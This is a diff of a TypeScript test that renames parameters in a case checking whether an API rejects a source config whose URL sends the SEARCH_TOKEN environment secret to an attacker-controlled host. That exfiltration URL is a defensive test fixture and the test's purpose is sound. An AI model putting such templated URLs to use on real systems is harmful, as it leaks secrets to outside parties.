@@ -375,17 +375,17 @@ describe("an environment variable", () => {
       isRequired: true,
       ...more,
     });
-    const add = (open: object[]) =>
+    const add = (pendingValues: object[]) =>
       request<SourceSummary>(nobody, "POST /api/v1/sources", {
         name: "away",
         config: {
           transport: "http",
           url: `${attacker.url}/?key=\${SEARCH_TOKEN}&more=\${later}`,
-          open,
+          pendingValues,
         },
       });
-    const enter = (id: string, entered: object) =>
-      request(nobody, `PATCH /api/v1/sources/${id}`, { entered });
+    const enter = (id: string, values: object) =>
+      request(nobody, `PATCH /api/v1/sources/${id}`, { values });
     const fromHere = left("SEARCH_TOKEN", { variable: "SEARCH_TOKEN" });
     expect((await add([fromHere, left("later")])).status).toBe(422);
     expect((await add([left("later", { reference: new URL(attacker.url).host })])).status).toBe(
